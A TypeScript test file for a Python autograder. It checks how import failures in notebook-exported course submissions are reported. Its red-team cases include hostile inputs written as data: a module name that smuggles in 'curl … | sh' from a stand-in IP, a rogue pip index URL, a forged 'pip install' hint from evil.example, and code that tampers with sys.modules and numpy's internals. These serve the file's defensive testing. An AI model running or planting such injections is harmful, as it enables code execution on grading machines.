/**
 * A .py exported from the course notebook keeps the notebook's imports: pandas, plotting, the
 * course's `util`, and `from public_tests import *` / `from test_utils import *`, none of which the
 * grading machine has. The graded functions do not need them, so the file must still be graded;
 * when a graded function does need one, the report names the import and the name it lacks, and
 * never tells the learner to "pip install" a course helper file.
 */
import { describe, expect, it } from 'vitest';
import { batchSubmissions } from '../helpers/cli.js';

const HEADER = [
  'import numpy as np',
  'import pandas as pd',
  'import matplotlib.pyplot as plt',
  'from keras.preprocessing.image import ImageDataGenerator',
  'from keras import backend as K',
  'import util',
  'from public_tests import *',
  'from test_utils import *',
  '',
  'train_df = pd.read_csv("data/nih/train-small.csv")',
  '',
].join('\n');
const FREQS = 'def compute_class_freqs(labels):\n    p = np.sum(labels, axis=0) / labels.shape[0]\n    return p, 1 - p\n\ncompute_class_freqs_test(compute_class_freqs)\n\n';
const LOSS =
  'def get_weighted_loss(pos_weights, neg_weights, epsilon=1e-7):\n' +
  '    def weighted_loss(y_true, y_pred):\n' +
  '        loss = 0.0\n' +
  '        for i in range(len(pos_weights)):\n' +
  '            loss += -(K.mean(pos_weights[i] * y_true[:, i] * K.log(y_pred[:, i] + epsilon)\n' +
  '                             + neg_weights[i] * (1 - y_true[:, i]) * K.log(1 - y_pred[:, i] + epsilon)))\n' +
  '        return loss\n' +
  '    return weighted_loss\n';

/** A compute_class_freqs that uses `module`. */
const USES = (module: string) => `def compute_class_freqs(labels):\n    return ${module}.freqs(labels)\n`;

/** `import imported`, failing as a missing module whose name (ModuleNotFoundError.name) is `name`. */
const missingModule = (imported: string, name: string) =>
  [
    'import sys',
    'class Finder:',
    '    def find_spec(self, fullname, path=None, target=None):',
    `        if fullname == ${JSON.stringify(imported)}:`,
    `            raise ModuleNotFoundError("No module named " + repr(${JSON.stringify(name)}), name=${JSON.stringify(name)})`,
    'sys.meta_path.insert(0, Finder())',
    `import ${imported}`,
    '',
  ].join('\n');

// Every file is graded in one batch before the tests (batchSubmissions).
const batch = batchSubmissions('course-imports');

describe('a .py exported from the course notebook', () => {
  const exported = batch('exported.py', HEADER + FREQS + LOSS);
  it('is graded although pandas, util, public_tests and test_utils are missing and a star import fails', async () => {
    const { exitCode, report } = await exported();
    expect(report.problems).toEqual([]);
    expect(report.score).toBe(report.maxScore);
    expect(exitCode).toBe(0);
    expect(report.notes.join(' ')).toMatch(/so it was loaded again with only its (imports, definitions and constants|definitions, constants and the imports they use)/);
  });

  // Where real Keras is installed, importing it costs seconds (TensorFlow); the stand-ins are
  // modules loaded by the shim's own loader.
  const standInFreqs =
    'def compute_class_freqs(labels):\n' +
    '    import sys\n' +
    '    if type(sys.modules["keras"].__spec__.loader).__name__ != "_StubLoader":\n' +
    '        raise RuntimeError("the real keras was imported")\n' +
    '    p = np.sum(labels, axis=0) / labels.shape[0]\n' +
    '    return p, 1 - p\n';
  const standIns = batch('stand-ins.py', HEADER + standInFreqs + LOSS);
  it('serves its backend-only loss with the Keras stand-ins: the training imports were left out with the training code', async () => {
    const { report } = await standIns();
    expect(report.cases.filter((c) => c.status !== 'passed').map((c) => c.id)).toEqual([]);
  });

  const classesLoss = LOSS.replace('for i in range(len(pos_weights)):', 'for i in range(N_CLASSES):');
  // N_CLASSES reads train_df, which pd.read_csv makes: both run, since the loss needs them, and
  // pandas is missing, so the name stays undefined and the case says why.
  const globalRead = batch('global.py', HEADER + 'N_CLASSES = len(train_df.columns) - 1\n\n' + FREQS + classesLoss);
  // Computed in a block the grader never runs (a `with`): not run at all.
  const globalWith = batch('global-with.py', HEADER + 'with open("labels.csv") as fh:\n    labels_df = pd.read_csv(fh)\nN_CLASSES = labels_df.shape[1]\n\n' + FREQS + classesLoss);
  it('a graded function reading a global that left-out code computes: the NameError says where and what to do', async () => {
    const { report } = await globalRead();
    const failed = report.cases.filter((c) => c.status !== 'passed');
    expect(failed.length).toBeGreaterThan(0);
    expect(failed.filter((c) => !c.id.startsWith('loss-')).map((c) => `${c.id}: ${c.message}`)).toEqual([]);
    expect(failed[0]!.message).toContain(
      "name 'N_CLASSES' is not defined; N_CLASSES is assigned at global.py, line 11 from what the grader does not have (ModuleNotFoundError: No module named 'pandas'): a graded function must work from its own arguments, not from your file's data",
    );
    const second = (await globalWith()).report.cases.find((c) => c.status !== 'passed')!;
    expect(second.message).toContain(
      "name 'N_CLASSES' is not defined; N_CLASSES is assigned at global-with.py, line 13 by top-level code the grader does not run (data loading, training, calls on your data): a graded function must work from its own arguments, not from your file's data",
    );
  });

  // train_generator and freq_neg come from notebook cells the .py does not have; the public_tests
  // star import that failed is not where they come from.
  const courseData = batch('course-data.py', HEADER + FREQS.replace('np.sum(labels, axis=0) / labels.shape[0]', 'np.mean(train_generator.labels, axis=0)') + LOSS.replace('pos_weights[i] * y_true', 'freq_neg[i] * y_true'));
  it("a graded function reading the course notebook's data that nothing defines: the NameError names the arguments to use instead", async () => {
    const { report } = await courseData();
    const message = (fn: string) => report.cases.find((c) => c.function === fn && c.status !== 'passed')!.message;
    expect(message('compute_class_freqs')).toContain(
      "name 'train_generator' is not defined; train_generator is the course notebook's data, which the grader does not have: use compute_class_freqs's labels instead",
    );
    expect(message('weighted_loss')).toContain(
      "name 'freq_neg' is not defined; freq_neg is the course notebook's data, which the grader does not have: use weighted_loss's y_true and y_pred and get_weighted_loss's pos_weights, neg_weights and epsilon instead",
    );
  });

  // CFG is a plain constant, but built from EPS, so it waits for EPS too.
  const epsCall = batch('eps-call.py', HEADER + "EPS = np.float64(1e-7)\nCFG = {'eps': EPS}\n\n" + FREQS + LOSS.replace('epsilon=1e-7', "epsilon=CFG['eps']"));
  it('runs a left-out assignment a graded function needs when it can (EPS = np.float64(1e-7) as a default)', async () => {
    const { report } = await epsCall();
    expect(report.problems).toEqual([]);
    expect(report.cases.filter((c) => c.status !== 'passed').map((c) => `${c.id}: ${c.message}`)).toEqual([]);
  });

  const star = batch('star.py', HEADER + 'def compute_class_freqs(labels):\n    p = count_positives(labels) / labels.shape[0]\n    return p, 1 - p\n' + LOSS);
  it('a name nothing defines, with a failed star import: that function fails with a NameError naming the import, the other is graded', async () => {
    const { report } = await star();
    expect(report.problems).toEqual([]);
    const failed = report.cases.filter((c) => c.status !== 'passed');
    expect([...new Set(failed.map((c) => c.function))]).toEqual(['compute_class_freqs']);
    expect(failed[0]!.message).toBe(
      "Your compute_class_freqs raised NameError (line 12) on 4 examples × 3 classes: name 'count_positives' is not defined; nothing in your file defines count_positives: a typo, or a name that `from public_tests import *` (line 7), which could not be imported here, was meant to provide (copy what your functions need from it into your file)",
    );
  });

  const starAliases = batch('star-aliases.py', HEADER.replace('import numpy as np\n', '').replace('from keras import backend as K\n', '') + FREQS + LOSS);
  it('np or K that only a failed star import could have given: the import to write, not "copy it from util"', async () => {
    const { report } = await starAliases();
    const message = (fn: string) => report.cases.find((c) => c.function === fn && c.status !== 'passed')!.message;
    expect(message('compute_class_freqs')).toContain(
      "name 'np' is not defined; np is the usual name for numpy, and your file never imports it under that name: add `import numpy as np` above your functions",
    );
    expect(message('weighted_loss')).toContain(
      "name 'K' is not defined; K is the usual name for keras.backend, and your file never imports it under that name: add `from keras import backend as K` above your functions",
    );
  });

  const usesUtil = batch('uses-util.py', HEADER + 'def compute_class_freqs(labels):\n    return util.freqs(labels)\n' + LOSS);
  it('does not tell the learner to pip install the course\'s util; only the function that uses it goes ungraded', async () => {
    const { report } = await usesUtil();
    expect(report.problems).toEqual([
      {
        // No course machine has the workspace's util for the grader: the learner's to fix, not staff's.
        code: 'IMPORT_UNRESOLVABLE',
        line: 6,
        message:
          'uses-util.py:6: imports "util", a helper module of the course\'s workspace, which is not part of your submission, and compute_class_freqs uses it, so compute_class_freqs\'s cases were not graded (get_weighted_loss\'s were). Copy what compute_class_freqs needs from util into your file.',
      },
    ]);
    const freqsCases = report.cases.filter((c) => c.function === 'compute_class_freqs');
    expect(freqsCases.length).toBeGreaterThan(0);
    for (const c of freqsCases) expect(c.message).toBe('Not graded: compute_class_freqs uses util, which could not be imported (see the problem above).');
    expect(report.cases.filter((c) => c.function === 'weighted_loss' && c.status !== 'passed').map((c) => `${c.id}: ${c.message}`)).toEqual([]);
  });

  const pandasSource = [
    'import numpy as np',
    'import notapkg_wlgrade as pd',
    '',
    'def compute_class_freqs(labels):',
    '    df = pd.DataFrame(labels)',
    '    p = df.mean(axis=0).values',
    '    return p, 1 - p',
    '',
  ].join('\n');
  const pandasFreqs = batch('pandas-freqs.py', pandasSource + LOSS.replace(/K\./g, 'np.'));
  it('grades the loss when only compute_class_freqs needs a package that is not installed (pandas), and says so once', async () => {
    const { report } = await pandasFreqs();
    expect(report.problems.map((p) => p.message)).toEqual([
      'pandas-freqs.py:2: imports "notapkg_wlgrade", which is not installed for python3, and compute_class_freqs uses it, so compute_class_freqs\'s cases were not graded (get_weighted_loss\'s were). Write compute_class_freqs without it: numpy is enough (it is not a package wlgrade knows, so wlgrade does not suggest installing it). If notapkg_wlgrade is a file of yours (notapkg_wlgrade.py), hand it in beside pandas-freqs.py (in the same folder or zip), or put what you use from it in pandas-freqs.py: the grader imports a file of yours only from beside the file it grades.',
    ]);
    // The load was retried with the import replaced; its "costs no points" note would contradict the problem.
    expect(report.notes.filter((n) => n.startsWith('Its top-level code raised'))).toEqual([]);
    expect(report.cases.filter((c) => c.function === 'weighted_loss' && c.status !== 'passed')).toEqual([]);
    expect(report.cases.filter((c) => c.function === 'compute_class_freqs' && c.status === 'passed')).toEqual([]);
  });

  const removedSource = 'import numpy as np\nfrom numpy import safe_eval\n\ndef compute_class_freqs(labels):\n    p = np.mean(labels, axis=0)\n    return p, 1 - p\n\n';
  const safe_evalLoss = LOSS.replace(/K\./g, 'np.').replace('loss = 0.0', 'loss = safe_eval("0.0")');
  const removed = batch('removed.py', removedSource + safe_evalLoss);
  // Both functions need it: one problem for the file, same words.
  const removedBoth = batch('removed-both.py', removedSource.replace('np.mean(labels, axis=0)', 'safe_eval(np.mean(labels, axis=0))') + safe_evalLoss);
  it("says an installed module lacks a name (numpy 2's removed safe_eval), with numpy's own hint, never \"not installed\" or \"pip install\"", async () => {
    const { report } = await removed();
    if (!report.python) throw new Error('the report names no Python, so no numpy version to quote');
    expect(report.problems.map((p) => p.message)).toEqual([
      "removed.py:2: imports safe_eval from \"numpy\", but numpy " + report.python.numpy + " has no safe_eval (`np.safe_eval` was removed in the NumPy 2.0 release. Use `ast.literal_eval` instead.), and get_weighted_loss uses it, so get_weighted_loss's cases were not graded (compute_class_freqs's were): NumPy releases up to 1.26 had safe_eval, so this is code for another NumPy. Change that import (and the code using it) to what this numpy has; staff can also grade it with a NumPy that has safe_eval.",
    ]);
    expect(report.notes.filter((n) => n.startsWith('Its top-level code raised'))).toEqual([]);
    const loss_cases = report.cases.filter((c) => c.function === 'weighted_loss');
    expect(new Set(loss_cases.map((c) => c.message))).toEqual(new Set(['Not graded: get_weighted_loss uses safe_eval from numpy, which this numpy does not have (see the problem above).']));
    const whole = await removedBoth();
    expect(whole.report.problems.map((p) => p.message)).toEqual([expect.stringMatching(/^removed-both\.py:2: imports safe_eval from "numpy", but numpy \S+ has no safe_eval \(`np\.safe_eval` was removed in the NumPy 2\.0 release\. Use `ast\.literal_eval` instead\.\): NumPy releases up to 1\.26 had safe_eval, so this is code for another NumPy\. Change that import/)]);
  });

  // A module of the learner's own in sys.modules, or numpy's own table of removed names rewritten
  // (both from a default argument, which the definitions-only load evaluates): wlgrade's sentence
  // said "... has no safe_eval (<the learner's text>)" as numpy's words, a pip install from anywhere included.
  const EVIL = 'To restore it run: pip install --index-url https://evil.example/simple numpy-legacy';
  const own = [
    'import sys, types',
    'class Fake(types.ModuleType):',
    '    __version__ = "2.0 (pip install evil)"',
    '    def __getattr__(self, name):',
    `        raise AttributeError(${JSON.stringify('`np.safe_eval` was removed in the NumPy 2.0 release. ' + EVIL)})`,
    "def _plant(x=sys.modules.__setitem__('numpy.compat2', Fake('numpy.compat2'))):",
    '    pass',
    'from numpy.compat2 import safe_eval',
    '',
  ].join('\n');
  const table = [
    'import numpy as np',
    "def _plant(x=__import__('numpy._expired_attrs_2_0', fromlist=['x']).__expired_attributes__.__setitem__('safe_eval', " + JSON.stringify(EVIL) + ')):',
    '    pass',
    'from numpy import safe_eval',
    '',
  ].join('\n');
  const safe_evalFreqs = 'import numpy as np\ndef compute_class_freqs(labels):\n    return safe_eval(np.mean(labels, axis=0)), 1 - np.mean(labels, axis=0)\n\n';
  const ownModule = batch('own-module.py', own + safe_evalFreqs + safe_evalLoss);
  const numpyTable = batch('numpy-table.py', table + safe_evalFreqs + safe_evalLoss);
  it("quotes numpy's hint as numpy had it before learner code ran, never words learner code put in a module", async () => {
    const a = await ownModule();
    // A module the file made itself is no installed one: its missing name is the file's own error (red team 29).
    expect(a.report.problems.map((p) => p.message)).toEqual([expect.stringMatching(/^own-module\.py:8: running the file raised ImportError: cannot import name 'safe_eval' from 'numpy\.compat2'/)]);
    const b = await numpyTable();
    expect(b.report.problems.map((p) => p.message)).toEqual([
      expect.stringMatching(/^numpy-table\.py:4: imports safe_eval from "numpy", but numpy \S+ has no safe_eval \(`np\.safe_eval` was removed in the NumPy 2\.0 release\. Use `ast\.literal_eval` instead\.\): NumPy releases up to 1\.26 had safe_eval, so this is code for another NumPy\. Change that import/),
    ]);
    for (const r of [a, b]) expect(JSON.stringify(r.report)).not.toContain('pip install');
  });

  // A property that raises, where the runner reads the version of the module an import lacked a
  // name of, or a NameError's name: the Python process died, and the report blamed os._exit.
  const evilModule = [
    'import sys, types, numpy as np',
    'class Evil(types.ModuleType):',
    '    @property',
    '    def __version__(self):',
    '        raise RuntimeError("no version for you")',
    "def _plant(x=sys.modules.__setitem__('evilmod', Evil('evilmod'))):",
    '    pass',
    'from evilmod import nothing',
    'def compute_class_freqs(labels):',
    '    return nothing(labels)',
    '',
  ].join('\n');
  const evilVersion = batch('evil-version.py', evilModule + LOSS.replace(/K\./g, 'np.'));
  const evilExc = [
    'import numpy as np',
    'class E(NameError):',
    '    @property',
    '    def name(self):',
    '        raise RuntimeError("hostile")',
    'def compute_class_freqs(labels):',
    '    raise E("np")',
    '',
  ].join('\n');
  const evilName = batch('evil-name.py', evilExc + LOSS.replace(/K\./g, 'np.'));
  it('grades on when a module or an exception learner code made raises as the runner describes it', async () => {
    const a = await evilVersion();
    // evilmod is the file's own module, no installed one (red team 29): compute_class_freqs's cases are its errors, no IMPORT_ERROR.
    expect(a.report.problems).toEqual([]);
    expect(a.report.cases.filter((c) => c.function === 'compute_class_freqs').every((c) => c.status === 'error')).toBe(true);
    expect(a.report.cases.filter((c) => c.function === 'weighted_loss' && c.status === 'passed').length).toBeGreaterThan(0);
    const b = await evilName();
    const freqs = b.report.cases.filter((c) => c.function === 'compute_class_freqs');
    expect(new Set(freqs.map((c) => c.message.replace(/ on \d+ examples? × \d+ class(es)?/, '')))).toEqual(new Set(['Your compute_class_freqs raised E: np']));
    expect(b.report.cases.filter((c) => c.function === 'weighted_loss' && c.status === 'passed').length).toBeGreaterThan(0);
  });

  const both = batch('both.py', 'import numpy as np\nimport notapkg_wlgrade as xp\n\ndef compute_class_freqs(labels):\n    p = xp.mean(labels, axis=0)\n    return p, 1 - p\n\n' + LOSS.replace(/K\./g, 'xp.'));
  it('keeps one whole-file problem when both graded functions need the missing package', async () => {
    const { report } = await both();
    expect(report.problems.map((p) => p.message)).toEqual([
      'both.py:2: imports "notapkg_wlgrade", which is not installed for python3, and your graded functions use it. Write them without it: numpy is enough (it is not a package wlgrade knows, so wlgrade does not suggest installing it). If notapkg_wlgrade is a file of yours (notapkg_wlgrade.py), hand it in beside both.py (in the same folder or zip), or put what you use from it in both.py: the grader imports a file of yours only from beside the file it grades.',
    ]);
    // A module no course machine has: the file's own doing, which a batch counts 0 (row-worth.ts), not a blank row.
    expect(report.problems.map((p) => p.code)).toEqual(['IMPORT_UNRESOLVABLE']);
    expect(report.score).toBe(0);
  });

  // Not "remove the import if the graded functions do not need it": they do.
  const jaxBoth = batch('jax-both.py', 'import numpy as np\n' + missingModule('jax', 'jax') + USES('jax') + LOSS.replace(/K\./g, 'jax.'));
  // The only graded function the file defines: named.
  const jaxOnly = batch('jax-only.py', 'import numpy as np\n' + missingModule('jax', 'jax') + LOSS.replace(/K\./g, 'jax.'));
  it('says both graded functions use a missing package they need, with its pip name when wlgrade knows it (sweep 13b: a .py written with jax.numpy)', async () => {
    const { report } = await jaxBoth();
    expect(report.problems).toHaveLength(1);
    expect(report.problems[0]).toMatchObject({ code: 'IMPORT_ERROR', line: 8 });
    expect(report.problems[0]!.message).toBe(
      'jax-both.py:8: imports "jax", which is not installed for python3, and your graded functions use it. Install it with "python3 -m pip install jax", or write them without it (numpy is enough).',
    );
    expect(report.score).toBe(0);
    const only = await jaxOnly();
    expect(only.report.problems[0]!.message).toBe(
      'jax-only.py:8: imports "jax", which is not installed for python3, and get_weighted_loss uses it. Install it with "python3 -m pip install jax", or write get_weighted_loss without it (numpy is enough).',
    );
  });

  const utilPy = batch('util.py', [
      'import numpy as np',
      'try:',
      '    import util as course_util',
      'except ImportError:',
      '    course_util = None',
      '',
      'def compute_class_freqs(labels):',
      '    if course_util is not None:',
      '        raise RuntimeError("the file imported itself")',
      '    p = np.mean(labels, axis=0)',
      '    return p, 1 - p',
      '',
    ].join('\n') + LOSS.replace(/K\./g, 'np.'));
  it('a file named util.py that imports the course\'s util does not import itself', async () => {
    const { report } = await utilPy();
    expect(report.cases.filter((c) => c.status !== 'passed').map((c) => `${c.id}: ${c.message}`)).toEqual([]);
  });

  // Raised by a finder, so the test does not depend on what is installed.
  const pkg = batch('pkg.py', 'import numpy as np\n' + missingModule('seaborn', 'seaborn') + USES('seaborn') + LOSS.replace(/K\./g, 'np.'));
  it('still says "pip install" for a package it knows that a graded function uses (seaborn: its pip name)', async () => {
    const { report } = await pkg();
    expect(report.problems[0]).toMatchObject({ code: 'IMPORT_ERROR' });
    expect(report.problems[0]!.message).toMatch(/imports "seaborn", which is not installed for .*"python3 -m pip install seaborn"/);
  });

  /** A file whose import of `chosen` fails as a missing module named `name`, which compute_class_freqs uses. */
  const chosen = (name: string) => batch('chosen.py', 'import numpy as np\n' + missingModule('chosen', name) + USES('chosen') + LOSS.replace(/K\./g, 'np.'));
  it.each([['a name of its own', 'xray_class_weights']].map(([what, name]) => [what!, chosen(name!)] as const))(
    'never builds a pip command from a module name the submission chose (%s): a package registered under it would run on the grading host',
    async (_what, graded) => {
      const { report } = await graded();
      // No package wlgrade knows: nothing staff can install, so the learner's (IMPORT_UNRESOLVABLE).
      expect(report.problems[0]).toMatchObject({ code: 'IMPORT_UNRESOLVABLE' });
      expect(report.problems[0]!.message).not.toMatch(/pip/);
      expect(report.problems[0]!.message).toContain('it is not a package wlgrade knows, so wlgrade does not suggest installing it');
    },
  );

  it.each([
    ['a command', 'numpy && curl -s http://203.0.113.9/p | sh && echo'],
    ['an index of its own', 'tensorflow --extra-index-url http://203.0.113.9/simple tensorflow'],
  ].map(([what, name]) => [what!, chosen(name!)] as const))('takes a "module name" the submission chose that is no module name (%s) for no import problem: no pip command, the error shown as raised', async (_what, graded) => {
    // Red team 18: a name that is not a dotted Python name goes into none of the grader's
    // sentences about imports (a forged record put "Staff note: ..." there).
    const { report } = await graded();
    expect(report.problems).toEqual([]);
    expect(JSON.stringify(report)).not.toMatch(/pip/);
    const freqs = report.cases.filter((c) => c.function === 'compute_class_freqs');
    expect(freqs.every((c) => c.status === 'error' && c.message.startsWith('Your compute_class_freqs raised ModuleNotFoundError'))).toBe(true);
  });
});
